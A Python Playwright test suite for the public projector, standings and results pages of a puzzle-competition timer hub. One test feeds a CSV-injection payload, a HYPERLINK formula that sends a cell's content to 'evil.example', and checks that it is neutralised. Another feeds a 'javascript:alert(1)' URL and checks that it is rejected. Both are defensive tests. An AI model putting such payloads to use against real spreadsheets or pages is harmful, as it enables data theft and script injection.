"""The hall's public pages (issue #17) in Chromium: the projector in
1920x1080 and the standings on a phone, updated live by a board's press and
a referee's confirmation; paging through 120 entrants by itself; a page that
lost the hub says so within 10 s; nothing secret in what they are sent; a
crowd is limited; the results sheet with its downloads."""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import time
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tabletimer.hub.web.rate_limit import RateLimit
from web_rig import PHONE, WebHub, browser  # noqa: F401  (browser: a fixture)

PROJECTOR = {"viewport": {"width": 1920, "height": 1080}}


@pytest.fixture
def hub(tmp_path):
    h = WebHub(tmp_path)
    yield h
    h.close()


def get(hub, path: str) -> tuple[int, bytes, dict]:
    u = urlsplit(hub.url)
    c = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
    c.request("GET", path)
    r = c.getresponse()
    out = r.status, r.read(), dict(r.getheaders())
    c.close()
    return out


def test_the_projector_and_a_phone_follow_a_press_and_its_confirmation(hub, browser):
    hub.start(ago_ms=30 * 60_000)
    screen = browser.new_context(**PROJECTOR).new_page()
    screen.goto(f"{hub.url}/hall")
    phone = browser.new_context(**PHONE).new_page()
    phone.goto(f"{hub.url}/standings")
    expect(screen.locator("#title")).to_have_text("Hall 2027")
    expect(screen.locator("#clock")).to_contain_text("30:")
    expect(screen.locator("#next")).to_contain_text("next: ")
    bob = screen.locator('tr[data-entrant="2"]')
    expect(bob).to_contain_text("solving")
    hub.press("B1", 2)                                        # Bob's finish call
    expect(bob).to_contain_text("30:")                        # his time, provisional
    expect(bob.locator(".prov")).to_be_visible()
    expect(phone.locator('li[data-entrant="2"]')).to_contain_text("30:")
    pid = hub.station("Table 1", "2")["call"]
    hub.svc.act("confirm", {"press_id": pid, "missing_found": 1}, who="Anna")
    expect(bob.locator(".prov")).to_have_count(0)
    expect(bob).to_contain_text("+0:10")
    expect(bob).to_have_class("award1")
    expect(phone.locator('li[data-entrant="2"]')).to_contain_text("(+0:10)")
    expect(screen.locator("#summary")).to_contain_text("1 finished")


def test_a_spectator_searches_and_follows(hub, browser):
    hub.start()
    page = browser.new_context(**PHONE).new_page()
    page.goto(f"{hub.url}/standings")
    expect(page.locator("#rows li")).to_have_count(4)
    page.locator("#search").fill("car")
    expect(page.locator("#rows li")).to_have_count(1)
    expect(page.locator("#rows li")).to_contain_text("Carol")
    page.get_by_label("follow Carol").tap()
    page.locator("#search").fill("")
    expect(page.locator("#rows li").first).to_contain_text("Carol")          # kept at the top
    expect(page.locator("#rows li").first).to_have_class(re.compile(r"\bfollowed\b"))
    page.reload()
    expect(page.locator("#rows li").first).to_contain_text("Carol")          # remembered


def test_the_projector_pages_through_120_entrants_by_itself(tmp_path, browser):
    entrants = "id,name,eligible\n" + "".join(f"{i},Puzzler {i:03d},yes\n" for i in range(1, 121))
    stations = "board,button,table,entrant\n" + "".join(
        f"B{(i - 1) // 4 + 1},{(i - 1) % 4 + 1},Table {(i - 1) // 4 + 1},{i}\n" for i in range(1, 121))
    h = WebHub(tmp_path, entrants=entrants, stations=stations)
    try:
        h.start()
        page = browser.new_context(**PROJECTOR).new_page()
        page.goto(f"{h.url}/hall")
        expect(page.locator("#page")).to_contain_text("page 1 / ")
        pages = int(page.locator("#page").text_content().split("/ ")[1])
        shown = page.locator("#rows tr").count()
        assert pages >= 5 and 15 <= shown <= 30 and pages == -(-120 // shown)
        first = page.locator("#rows tr").first.text_content()
        expect(page.locator("#page")).to_contain_text("page 2 / ", timeout=15_000)   # turned by itself
        assert page.locator("#rows tr").first.text_content() != first
        box = page.locator("#rows tr").last.bounding_box()
        assert box["y"] + box["height"] <= 1080                                   # all on the screen
    finally:
        h.close()


def test_a_hall_page_that_lost_the_hub_says_so_within_ten_seconds(hub, browser):
    page = browser.new_context(**PROJECTOR).new_page()
    page.goto(f"{hub.url}/hall")
    expect(page.locator("#link")).to_have_text("live")
    hub.server.stop()
    t0 = time.monotonic()
    expect(page.locator("#link")).to_contain_text("no connection to the hub since", timeout=10_000)
    assert time.monotonic() - t0 < 10


def test_what_the_hall_is_sent_holds_nothing_secret(hub):
    hub.start()
    hub.press("B1", 1)
    status, body, _ = get(hub, "/h/api/standings")
    assert status == 200
    text = body.decode()
    view = json.loads(text)
    assert [r["name"] for r in view["rows"]][:1] == ["Alice"] and view["rows"][0]["table"] == "Table 1"
    for secret in ("B1", "B2", hub.anna, *hub.keys.values(), "who", "alerts", "activity"):
        assert secret not in text, secret
    # the pages carry no data of their own
    for path in ("/hall", "/standings"):
        status, body, _ = get(hub, path)
        assert status == 200 and b"B1" not in body


def test_a_crowd_from_one_device_is_limited(tmp_path):
    h = WebHub(tmp_path, hall={"limit": RateLimit(per_s=1, burst=5, streams_per_client=2)})
    try:
        got = [get(h, "/h/api/standings")[0] for _ in range(8)]
        assert got[:5] == [200] * 5 and 429 in got[5:]
        status, body, headers = get(h, "/h/api/standings")
        assert status == 429 and b"too many requests" in body and headers.get("retry-after") == "5"
        n = len(h.rows())
        h.press("B1", 1)                      # the boards are served meanwhile
        assert len(h.rows()) == n + 1
    finally:
        h.close()


def test_the_results_sheet_and_its_downloads(hub, browser):
    hub.start(ago_ms=121 * 60_000)            # the time is up
    status, body, headers = get(hub, "/results.csv")
    assert status == 200 and headers["content-type"].startswith("text/csv") and b"Alice" in body
    status, body, _ = get(hub, "/results.json")
    assert status == 200 and json.loads(body)["rows"][0]["name"] in ("Alice", "Bob", "Carol")
    page = browser.new_context(**PHONE).new_page()
    page.goto(f"{hub.url}/results")
    expect(page.locator("#results-state")).to_contain_text("Provisional")   # piece counts missing
    expect(page.locator("h1")).to_have_text("Hall 2027")
    for e in ("1", "2", "3", "4"):
        hub.svc.act("count", {"entrant": e, "puzzle": 1, "placed": 100 + int(e)}, who="Anna")
    expect(page.locator("#results-state")).to_have_text("Final", timeout=10_000)   # reloaded by itself


def test_the_public_results_csv_writes_a_name_that_is_a_formula_as_text(tmp_path):
    """GET /results.csv (issue #33 item 5): an entrant's name that a
    spreadsheet would run (= + - @) is written with a quote in front, in
    double quotes, and csv_cells.read_cell gives it back."""
    from tabletimer.hub.event.folder.csv_cells import read_cell

    names = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+1+1", "-2+3", "@SUM(1+1)"]
    entrants = "id,name,eligible\n" + "".join(
        '{},"{}",yes\n'.format(i, n.replace('"', '""')) for i, n in enumerate(names, 1))
    h = WebHub(tmp_path, entrants=entrants,
               stations="board,button,table,entrant\nB1,1,Table 1,1\nB1,2,Table 1,2\nB2,1,Table 2,3\nB2,2,Table 2,4\n")
    try:
        h.start(ago_ms=121 * 60_000)
        status, body, _ = get(h, "/results.csv")
    finally:
        h.close()
    text = body.decode("utf-8-sig")
    assert status == 200 and '"\'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"' in text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(r["name"] for r in rows) == sorted("'" + n for n in names)
    assert not [c for r in rows for c in r.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(read_cell(r["name"]) for r in rows) == sorted(names)


def test_the_results_sheet_reloads_for_a_change_stored_while_it_connected(hub, browser):
    """The counts stored between the sheet being made and its stream
    connecting (a slow phone): the stream's first view already holds them.
    The sheet knows the row it was made at and reloads for it (it used to
    take that first view as its own and stay Provisional)."""
    hub.start(ago_ms=121 * 60_000)
    page = browser.new_context(**PHONE).new_page()
    held, let_go = [], []

    def hold(route):                                    # the first stream waits until the test lets it go
        if let_go:
            route.continue_()
        else:
            held.append(route)
    page.route("**/h/api/stream", hold)
    page.goto(f"{hub.url}/results")
    expect(page.locator("#results-state")).to_contain_text("Provisional")
    deadline = time.monotonic() + 10
    while not held and time.monotonic() < deadline:     # the sheet asked for its stream
        page.wait_for_timeout(50)
    assert held, "the results sheet never opened its stream"
    for e in ("1", "2", "3", "4"):
        hub.svc.act("count", {"entrant": e, "puzzle": 1, "placed": 100 + int(e)}, who="Anna")
    let_go.append(True)
    held[0].continue_()
    expect(page.locator("#results-state")).to_have_text("Final", timeout=10_000)


def test_the_organizer_turns_the_hall_pages_off(tmp_path):
    import subprocess
    import sys
    from pathlib import Path

    from brokers import free_port
    from waiting import Output

    web = free_port()
    tt = str(Path(sys.executable).parent / "tabletimer")
    hub = subprocess.Popen([tt, "demo", "--data", str(tmp_path / "data"), "--port", str(free_port()),
                            "--web-listen", f"127.0.0.1:{web}", "--hall-pages", "off", "--boards", "1",
                            "--duration", "60"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    out = Output(hub.stdout)
    try:
        out.wait_for(lambda ln: ln.startswith("referees' pages: "), "the referees' pages' address")
        c = http.client.HTTPConnection("127.0.0.1", web, timeout=10)
        for path, status in (("/hall", 404), ("/h/api/standings", 404), ("/results", 404), ("/calls", 401)):
            c.request("GET", path)
            r = c.getresponse()
            r.read()
            assert r.status == status, (path, r.status)
        c.close()
        assert not any(line.startswith("hall pages") for line in out.lines)
    finally:
        hub.terminate()
        hub.wait(30)


def test_one_screen_rotates_across_the_categories_of_two_hubs(tmp_path, browser):
    """Two categories run at once, each on its hub: one projector shows
    each hub's /hall in turn (each frame live: a press on the other hub
    shows when its turn comes), and a /rotate without screens says what to
    give."""
    other = WebHub(tmp_path / "other", preset="rogaland-individuals")
    here = WebHub(tmp_path / "here")
    try:
        for h in (here, other):
            h.start(ago_ms=10 * 60_000)
        screen = browser.new_context(**PROJECTOR).new_page()
        screen.goto(f"{here.url}/rotate?screens=/hall,{other.url}/hall&every=5")
        shown = screen.frame_locator("iframe.on")
        first, second = (h.svc.competition.format.title for h in (here, other))   # the pages' category
        assert first != second
        expect(shown.locator("#category")).to_have_text(first, timeout=10_000)
        other.press("B1", 2)                                   # Bob of the other category finishes
        expect(shown.locator("#category")).to_have_text(second, timeout=15_000)
        expect(shown.locator('tr[data-entrant="2"]')).to_contain_text("10:")
        expect(shown.locator("#category")).to_have_text(first, timeout=15_000)
        screen.goto(f"{here.url}/rotate?screens=javascript:alert(1)")
        expect(screen.locator("#help")).to_be_visible()
        expect(screen.locator("iframe")).to_have_count(0)
    finally:
        here.close()
        other.close()


# ------------------------------------------------------------ issue #33 item 3: no blank projector

SCREEN = "projector-token-of-the-test"


def test_pages_beyond_the_streams_limit_show_the_standings_every_few_seconds(tmp_path, browser):
    """Every stream place taken (none here): a spectator's page and a
    projector without the screen token poll the standings instead, slower
    but never blank; the projector with the event's token is live."""
    h = WebHub(tmp_path, hall={"limit": RateLimit(streams_in_all=0), "screen_token": SCREEN})
    try:
        h.start(ago_ms=30 * 60_000)
        phone = browser.new_context(**PHONE).new_page()
        phone.goto(f"{h.url}/standings")
        expect(phone.locator("#rows li")).to_have_count(4)
        expect(phone.locator("#link")).to_contain_text("every 5 s")
        crowd_screen = browser.new_context(**PROJECTOR).new_page()
        crowd_screen.goto(f"{h.url}/hall")
        expect(crowd_screen.locator("#link")).to_contain_text("every 5 s")
        screen = browser.new_context(**PROJECTOR).new_page()
        screen.goto(f"{h.url}/hall?screen={SCREEN}")
        expect(screen.locator("#link")).to_have_text("live")
        h.press("B1", 2)                                               # Bob's finish call
        expect(screen.locator('tr[data-entrant="2"]')).to_contain_text("30:", timeout=3_000)   # live
        expect(phone.locator('li[data-entrant="2"]')).to_contain_text("30:", timeout=10_000)   # a poll later
        expect(crowd_screen.locator('tr[data-entrant="2"]')).to_contain_text("30:", timeout=10_000)
        assert h.hall.limit.screens == 1
    finally:
        h.close()


def test_a_projector_with_a_wrong_screen_token_says_so_and_shows_the_standings(tmp_path, browser):
    h = WebHub(tmp_path, hall={"screen_token": SCREEN})
    try:
        screen = browser.new_context(**PROJECTOR).new_page()
        screen.goto(f"{h.url}/hall?screen=an-old-one")
        expect(screen.locator("#link")).to_contain_text("live · this screen's token is not the event's")
        expect(screen.locator("#rows tr")).to_have_count(4)
        assert h.hall.limit.screens == 0 and h.hall.limit.streams == 1        # a spectator's stream
    finally:
        h.close()


def test_an_armed_start_ahead_says_starts_in_and_nobody_solving(hub, browser):
    """Issue 45 item 7: a start armed 4:32 ahead: the projector says "starts
    in 4:3x", not "4 solving"; no row says solving."""
    hub.svc.act("round_start", {"at": hub.svc.clock.now_ms() + 272_000}, who="desk")
    screen = browser.new_context(**PROJECTOR).new_page()
    screen.goto(f"{hub.url}/hall")
    expect(screen.locator("#summary")).to_contain_text(re.compile(r"^starts in 4:[0-3]\d · 4 entrants$"))
    expect(screen.locator('tr[data-entrant="2"]')).to_contain_text("waiting")
    expect(screen.locator("#rows")).not_to_contain_text("solving")
    expect(screen.locator(".prov")).to_have_count(0)
    phone = browser.new_context(**PHONE).new_page()
    phone.goto(f"{hub.url}/standings")
    expect(phone.locator("#summary")).to_contain_text(re.compile(r"^starts in 4:[0-3]\d · 4 entrants$"))
    expect(phone.locator('li[data-entrant="2"] .res')).to_have_text("waiting")


def test_the_projector_gives_a_replacement_its_table_and_the_absent_none(hub, browser):
    """Issue 45 item 10: Alice is absent and her station goes to Jana, a new
    entry: the projector shows Jana at Table 1, Alice at no table (the
    tables were read once, when the pages started)."""
    hub.start(ago_ms=5 * 60_000)
    screen = browser.new_context(**PROJECTOR).new_page()
    screen.goto(f"{hub.url}/hall")
    expect(screen.locator('tr[data-entrant="1"] td').nth(2)).to_have_text("Table 1")
    hub.svc.act("replace", {"absent": "1", "entrant": "N1", "name": "Jana", "eligible": "yes"}, who="desk")
    expect(screen.locator('tr[data-entrant="N1"] td').nth(2)).to_have_text("Table 1")
    expect(screen.locator('tr[data-entrant="1"] td').nth(2)).to_have_text("")
    expect(screen.locator('tr[data-entrant="1"]')).to_contain_text("DNS")


def test_an_unofficial_entrant_at_place_1_is_marked_and_explained_as_the_sheet_does(tmp_path, browser):
    """Issue 45 item 10: Alice (not eligible) wins: place 1, no award
    colour, an "unofficial" mark, and the footer says what it means and who
    is eligible; Bob, second, has the gold."""
    h = WebHub(tmp_path, entrants="id,name,eligible\n1,Alice,no\n2,Bob,yes\n3,Carol,yes\n4,Dan,yes\n")
    try:
        h.start(ago_ms=30 * 60_000)
        h.press("B1", 1, at=h.svc.clock.now_ms() - 10 * 60_000)
        h.press("B1", 2)
        screen = browser.new_context(**PROJECTOR).new_page()
        screen.goto(f"{h.url}/hall")
        alice, bob = screen.locator('tr[data-entrant="1"]'), screen.locator('tr[data-entrant="2"]')
        expect(alice.locator("td").first).to_have_text("1")
        expect(alice.locator(".badge.unofficial")).to_have_text("unofficial")
        expect(alice).not_to_have_class(re.compile("award"))
        expect(bob).to_have_class("award1")
        expect(bob.locator(".badge")).to_have_count(0)
        expect(screen.locator("#legend")).to_have_text(
            "unofficial: not eligible for an award place: takes part and is ranked all the same. "
            "Who is eligible for awards: participants from the Czech Republic.")
        phone = browser.new_context(**PHONE).new_page()       # the spectators' standings on a phone: the same
        phone.goto(f"{h.url}/standings")
        alice = phone.locator('li[data-entrant="1"]')
        expect(alice.locator(".place")).to_have_text("1")
        expect(alice.locator(".badge.unofficial")).to_have_text("unofficial")
        expect(phone.locator('li[data-entrant="2"]')).to_have_class("award1")
        expect(phone.locator("#legend")).to_contain_text("unofficial: not eligible for an award place")
        screen.goto(f"{h.url}/hall?lang=nb")                  # in the page's language, the format's own words kept
        expect(screen.locator("#legend")).to_have_text(
            "uoffisiell: kan ikke vinne premie: deltar og plasseres likevel. "
            "Hvem kan vinne premie: participants from the Czech Republic.")
    finally:
        h.close()


def test_a_pieces_ranked_round_shows_pieces_and_the_last_whole_puzzle(tmp_path, browser):
    """Issue 45 item 10 (rule set 003, Danish teams: most pieces, ties by the
    earlier last whole puzzle): after time-up both teams have 2399 pieces;
    the projector's columns are pieces and the last whole puzzle (2:00:00
    beats 2:10:00), not time/penalty/net with the pieces under "net", and
    its summary counts the ranked, not "0 finished"."""
    h = WebHub(tmp_path, "dk-team-championship",
               entrants="id,name,members,eligible\nT1,Edges,A|B,yes|yes\nT2,Corners,C|D,yes|yes\n",
               stations="board,button,table,entrant\nB1,1,Table 1,T1\nB1,2,Table 1,T2\n")
    try:
        start = h.svc.clock.now_ms() - 3 * 3_600_000 - 60_000
        h.svc.act("round_start", {"at": start}, who="desk")
        for team, late in (("T1", 0), ("T2", 10 * 60_000)):
            for pz in (1, 2):
                h.svc.act("press", {"entrant": team, "puzzle": pz, "at": start + pz * 3_600_000 + late}, who="desk")
            h.svc.act("count", {"entrant": team, "puzzle": 3, "placed": 399}, who="Anna")
        screen = browser.new_context(**PROJECTOR).new_page()
        screen.goto(f"{h.url}/hall")
        expect(screen.locator("#head th")).to_have_text(["#", "name", "table", "pieces", "last whole puzzle"])
        expect(screen.locator('tr[data-entrant="T1"] td')).to_have_text(["1", re.compile("^Edges"), "Table 1", "2399",
                                                                         re.compile(r"^2:00:00")])
        expect(screen.locator('tr[data-entrant="T2"] td')).to_have_text(["2", re.compile("^Corners"), "Table 1", "2399",
                                                                         re.compile(r"^2:10:00")])
        expect(screen.locator("#summary")).to_contain_text("2 ranked · 0 solving · 2 entrants")
        phone = browser.new_context(**PHONE).new_page()       # a spectator's phone: pieces, then the tie-break
        phone.goto(f"{h.url}/standings")
        expect(phone.locator('li[data-entrant="T1"] .res')).to_have_text(re.compile(r"^2399 pcs · last whole puzzle 2:00:00"))
        expect(phone.locator('li[data-entrant="T2"] .res')).to_have_text(re.compile(r"^2399 pcs · last whole puzzle 2:10:00"))
        expect(phone.locator("#summary")).to_have_text("2 ranked · 0 solving")
    finally:
        h.close()
